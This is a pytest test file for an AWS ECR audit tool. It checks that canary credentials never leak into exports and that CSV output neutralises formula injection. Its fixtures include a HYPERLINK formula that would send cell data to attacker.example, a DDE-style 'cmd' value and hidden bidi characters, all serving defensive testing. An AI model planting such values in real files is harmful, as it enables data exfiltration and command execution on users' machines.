"""Secrets never leave the collector; untrusted text stays text in exports.

The credentials really used by a sandbox collection are the ones sts:AssumeRole mints inside
moto for each member account (read back from the sandbox before it stops); the caller's
environment carries recognizable canaries too (the sandbox caller itself signs with moto's
dummy key, which moto maps to the management account). Every artifact of the run is scanned.
"""

import csv
import io
import json
from contextlib import contextmanager

import pandas as pd
import pytest

import ecr_audit.sandbox as sandbox_pkg
from ecr_audit import load, report
from ecr_audit.cli import main
from ecr_audit.collect.errors import scrub
from ecr_audit.sandbox.demo import XSS_SID, XSS_TAG

pytestmark = pytest.mark.slow

ENV_SECRET = "CanarySecretKey0123456789abcdefGHIJKLMNOP"
ENV_TOKEN = "CanarySessionToken/" + "Zz9" * 40
ECHOED_TOKEN = "IQoJb3JpZ2luX2VjEAsaCXVzLWVhc3QtMSJHMEUCIQDexample0123456789+/ABCDEFabcdef" * 3
ECHOED_KEY_ID = "ASIAQFX64DQ2QZJHDNQE"
DATA = "098765432109"


def _frames_text(inv) -> str:
    parts = []
    for name, df in inv.frames.items():
        parts.append(name)
        parts.append(df.astype(str).to_csv(index=False))
    return "\n".join(parts)


@pytest.fixture
def run_artifacts(monkeypatch, tmp_path, capsys):
    """A demo collection through the CLI (progress on), its findings exports and one report page."""
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", ENV_SECRET)
    monkeypatch.setenv("AWS_SESSION_TOKEN", ENV_TOKEN)
    original = sandbox_pkg.running
    minted = []

    @contextmanager
    def running(world):
        with original(world) as org:
            repo = org.world.account(DATA).registries[0].repositories[0].name
            # An error answer that echoes a signed request back (as proxies and some services do).
            org.faults.add(
                "GetRepositoryPolicy",
                "AccessDeniedException",
                account_id=DATA,
                repository_name=repo,
                message=f"denied for {ECHOED_KEY_ID}; X-Amz-Security-Token={ECHOED_TOKEN}&x=1 "
                f"token {ECHOED_TOKEN}",
            )
            yield org
            minted.extend(org.minted_credentials())  # before moto forgets them

    monkeypatch.setattr(sandbox_pkg, "running", running)
    snap = tmp_path / "snap"
    rc = main(["collect", "--sandbox", "--out", str(snap)])
    cli = capsys.readouterr()
    assert rc == 3, cli.err
    texts = {
        "cli stdout": cli.out,
        "cli stderr": cli.err,
        "manifest.json": (snap / "manifest.json").read_text(),
    }
    inv = load(snap)
    texts["parquet frames"] = _frames_text(inv)
    for fmt in ("csv", "json"):
        out = tmp_path / f"findings.{fmt}"
        assert main(["findings", str(snap), "--format", fmt, "--out", str(out)]) == 0
        texts[f"findings {fmt}"] = out.read_text()
    page = report.run(snap, tmp_path / "report", only=["cross_account_access"])[0]
    assert page.ok, page.error
    texts["report html"] = page.html.read_text()
    texts["report index"] = (tmp_path / "report" / "index.html").read_text()
    capsys.readouterr()
    return inv, texts, minted


def test_no_credential_or_token_appears_in_any_artifact_and_echoed_ones_are_redacted(run_artifacts):
    inv, texts, minted = run_artifacts
    assert len(minted) >= 2  # one per member account at least: the canaries are real credentials
    secrets = {
        ENV_SECRET: "env secret key",
        ENV_TOKEN: "env session token",
        ECHOED_TOKEN: "echoed token",
        ECHOED_KEY_ID: "echoed key id",
    }
    for c in minted:
        secrets[c["secret_access_key"]] = f"minted secret ({c['account_id']})"
        secrets[c["session_token"]] = f"minted session token ({c['account_id']})"
        secrets[c["access_key_id"]] = f"minted key id ({c['account_id']})"
    leaks = [(where, what) for where, text in texts.items() for s, what in secrets.items() if s in text]
    assert not leaks, leaks
    # The error answer that echoed credentials is still an errors row, its message redacted.
    row = inv.errors[inv.errors["operation"] == "GetRepositoryPolicy"]
    assert len(row) == 1 and row["error_kind"].tolist() == ["access_denied"]
    msg = row["message"].iloc[0]
    assert "[redacted" in msg and "denied for" in msg


@pytest.mark.parametrize("secret", [ENV_SECRET, ENV_TOKEN, ECHOED_TOKEN])
def test_scrub_removes_canaries_in_every_position(secret):
    for text in (
        secret,
        f"x {secret} y",
        f"Authorization: AWS4-HMAC-SHA256 Credential={secret}",
        json.dumps({"token": secret}),
        f"?X-Amz-Security-Token={secret}&a=b",
    ):
        assert secret not in scrub(text), text


def test_findings_exports_are_data_untrusted_text_round_trips_and_no_cell_is_a_spreadsheet_formula(
    demo_snapshot, tmp_path, capsys
):
    assert main(["findings", str(demo_snapshot), "--format", "json"]) == 0
    rows = json.loads(capsys.readouterr().out)
    assert rows and all(isinstance(r, dict) for r in rows)
    assert main(["findings", str(demo_snapshot), "--format", "csv"]) == 0
    cells = [c for row in csv.reader(io.StringIO(capsys.readouterr().out)) for c in row]
    formula = [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    assert not formula, formula[:5]
    # The canaries are stored as the exact text collected (never interpreted or altered).
    inv = load(demo_snapshot)
    assert (inv.repository_tags["value"] == XSS_TAG).any()
    policies = "".join(
        pd.concat([inv.repository_policies["policy_text"], inv.registry_policies["policy_text"]])
    )
    assert XSS_SID in policies


def test_formula_like_text_from_aws_is_neutralized_in_every_csv_export(tmp_path, monkeypatch):
    """A resource tag value, a policy Sid or an error message starting with = + - @ must not
    become a spreadsheet formula in the findings CSV or a report table's CSV."""
    from ecr_audit import notebook as nb
    from ecr_audit.export import safe_frame

    evil = '=HYPERLINK("https://attacker.example/?"&A1,"click")'
    df = pd.DataFrame(
        {
            "tag": [evil, "+1", "-cmd|' /C calc'!A0", "@SUM(A1)", "\tx", "safe"],
            "cat": pd.Series([evil, "ok", "ok", "ok", "ok", "ok"], dtype="category"),
            "tags": [[evil], ["a", "b"], [], ["x"], ["y"], ["z"]],
            "n": [-1, 2, 3, 4, 5, 6],
        }
    )
    out = safe_frame(df)
    assert out["tag"].tolist() == ["'" + evil, "'+1", "'-cmd|' /C calc'!A0", "'@SUM(A1)", "'\tx", "safe"]
    assert out["cat"].iloc[0] == "'" + evil and out["tags"].tolist()[:2] == ["'" + evil, "a, b"]
    assert out["n"].tolist() == [-1, 2, 3, 4, 5, 6]  # numbers are numbers
    monkeypatch.setenv(nb.REPORT_DIR_ENV, str(tmp_path))
    nb.table(df, name="t")
    cells = [c for row in csv.reader(open(next(tmp_path.glob("*.csv")))) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t")], cells
    assert "-1" in cells  # a negative number stays one


def test_findings_csv_goes_through_the_formula_safe_writer(demo_snapshot, capsys, monkeypatch):
    from ecr_audit import findings

    real = findings.findings

    def with_hostile_cell(inv):
        f = real(inv)
        f.loc[f.index[0], "details"] = "=1+1"  # e.g. text quoted from a policy
        return f

    monkeypatch.setattr(findings, "findings", with_hostile_cell)
    assert main(["findings", str(demo_snapshot), "--format", "csv"]) == 0
    cells = [c for row in csv.reader(io.StringIO(capsys.readouterr().out)) for c in row]
    assert "'=1+1" in cells and not [c for c in cells if c[:1] in ("=", "+", "@")]


def test_csv_guard_covers_arrow_text_and_leaves_numbers_and_odd_cells_alone():
    from ecr_audit.export import safe_frame, to_csv

    df = pd.DataFrame(
        {
            "arrow": pd.Series(["=1+1", "ok"], dtype="string[pyarrow]"),
            "numcat": pd.Series([-1, 2], dtype="category"),
            "odd": [{"k": "=x"}, None],
        }
    )
    out = safe_frame(df)
    assert out["arrow"].tolist() == ["'=1+1", "ok"] and out["numcat"].tolist() == [-1, 2]
    text = to_csv(df)  # Arrow cannot write dict cells: pandas does
    assert "'=1+1" in text and "'-1" not in text


def test_csv_cells_with_hidden_characters_or_formulas_behind_whitespace_or_full_width_are_neutralized():
    """issue 12 (tail): a Sid with U+202E reordered the text around it and NUL went through; a
    formula behind leading whitespace or in full-width form (＝＋－＠) was not guarded."""
    from ecr_audit.export import safe_frame, to_csv

    formulas = [
        " =1+1",
        "\t =1+1",
        "  +1",
        " \t-1",
        "\u3000=1",
        "\n@SUM(A1)",
        "＝1+1",
        " ＋x",
        "－1",
        "＠SUM(A1)",
        "\t＝1",
    ]
    hidden = {
        "Sid\u202e}1{=x": "Sid\\u202e}1{=x",
        "nul\x00": "nul\\x00",
        "\u2066iso\u2069": "\\u2066iso\\u2069",
        "m\u200e\u200f\u061c": "m\\u200e\\u200f\\u061c",
        "bell\x07\x1b[31m\x7f\x9b": "bell\\x07\\x1b[31m\\x7f\\x9b",
    }
    plain = ["ok", "a = b", "tab\tinside", "line\nbreak", "x-1"]
    cells = formulas + list(hidden) + plain
    frames = {
        "str": pd.Series(cells),
        "arrow": pd.Series(cells, dtype="string[pyarrow]"),
        "object": pd.Series(cells, dtype=object),
        "category": pd.Series(cells, dtype="category"),
        "lists": pd.Series([[c] for c in cells]),
    }
    df = pd.DataFrame({**frames, "n": range(-len(cells), 0), "f": [-0.5] * len(cells)})
    out = safe_frame(df)
    expected = ["'" + c for c in formulas] + list(hidden.values()) + plain
    for col in frames:
        assert out[col].tolist() == expected, col
    assert out["n"].tolist() == list(range(-len(cells), 0)) and out["f"].tolist() == [-0.5] * len(cells)
    for writer in ("arrow", "pandas"):  # the fallback writer (dict cells) too
        frame = df if writer == "arrow" else df.assign(odd=[{"k": 1}] * len(cells))
        rows = list(csv.reader(io.StringIO(to_csv(frame))))
        text_cells = [c for row in rows[1:] for c in row[:5]]
        assert not [c for c in text_cells if c.lstrip()[:1] in "=+-@＝＋－＠"], writer
        hidden_left = "\x00\u202e\u2066\u2069\u200e\u200f\u061c\x07"
        assert not [c for c in text_cells if any(h in c for h in hidden_left)]
        assert [row[5] for row in rows[1:]] == [str(n) for n in range(-len(cells), 0)]  # numbers as numbers


# -- issue 12 #16: credentials the process knows, in every form they travel in -------------------

CANARY_KEY_ID = "ASIACANARYKEY0123456"
CANARY_SECRET = "Canary/Secret+Key0123456789abcdefGHIJKLM"
CANARY_TOKEN = "IQoJCanary/Session+Token=" + "Ab9/+" * 40


def _encodings(value: str) -> dict[str, str]:
    import base64
    import re
    from urllib.parse import quote, quote_plus

    raw = value.encode()
    out = {
        "raw": value,
        "quote": quote(value, safe=""),
        "quote keeping /": quote(value),
        "quote_plus": quote_plus(value),
        "lower-case escapes": re.sub(r"%[0-9A-F]{2}", lambda m: m.group(0).lower(), quote(value, safe="")),
        "base64": base64.b64encode(raw).decode(),
        "base64url": base64.urlsafe_b64encode(raw).decode(),
    }
    for k in range(3):  # inside a longer encoded text, at each byte alignment
        out[f"inside base64 at +{k}"] = base64.b64encode(b"{" * k + b'{"c":"' + raw + b'"}').decode()
    return out


def test_scrub_removes_known_credentials_raw_url_encoded_and_base64(monkeypatch):
    from ecr_audit.collect import errors

    monkeypatch.setattr(errors, "KNOWN_SECRETS", errors.KnownSecrets())
    errors.remember_credentials(CANARY_KEY_ID, CANARY_SECRET, CANARY_TOKEN)
    errors.remember_credentials("testing", "testing", None)  # placeholders too short to register
    for value in (CANARY_KEY_ID, CANARY_SECRET, CANARY_TOKEN):
        for form, text in _encodings(value).items():
            out = scrub(f"denied; echo={text}&x=1 ({form})")
            # What survives of an embedded base64 form is its edge characters: a few bits, not the value.
            assert text not in out and "[redacted]" in out, (form, out)
            if form.startswith("inside base64"):
                assert len(max(out.split("[redacted]"), key=len)) < 40, (form, out)
    assert scrub("testing 1 2 3") == "testing 1 2 3"


def test_url_encoded_and_base64_credentials_echoed_by_aws_never_reach_the_errors_frame():
    """Canary caller credentials and the member credentials STS mints during the run are echoed,
    encoded, by a denial: the errors row is kept, the credentials are not, in any form."""
    import boto3

    from ecr_audit import sandbox
    from ecr_audit.collect import collect

    with sandbox.running(sandbox.demo_world()) as org:

        def echo():
            values = [CANARY_KEY_ID, CANARY_SECRET, CANARY_TOKEN]
            for c in org.minted_credentials():
                values += [c["access_key_id"], c["secret_access_key"], c["session_token"]]
            return "denied: " + " ".join(t for v in values for t in _encodings(v).values())

        org.faults.add("GetRepositoryPolicy", "AccessDeniedException", message=echo, account_id=DATA)
        caller = boto3.Session(
            aws_access_key_id=CANARY_KEY_ID,
            aws_secret_access_key=CANARY_SECRET,
            aws_session_token=CANARY_TOKEN,
            region_name="us-east-1",
        )
        inv = collect(caller, org=True, role_name=org.role_name)
        minted = org.minted_credentials()
    assert minted and inv.meta["completeness"] == "partial"
    text = _frames_text(inv)
    secrets = [CANARY_KEY_ID, CANARY_SECRET, CANARY_TOKEN] + [
        c[k] for c in minted for k in ("access_key_id", "secret_access_key", "session_token")
    ]
    leaks = sorted({form for value in secrets for form, t in _encodings(value).items() if t in text})
    assert not leaks, leaks
    denied = inv.errors[inv.errors["operation"] == "GetRepositoryPolicy"]
    assert len(denied) >= 1 and denied["message"].str.startswith("denied: [redacted]").all()
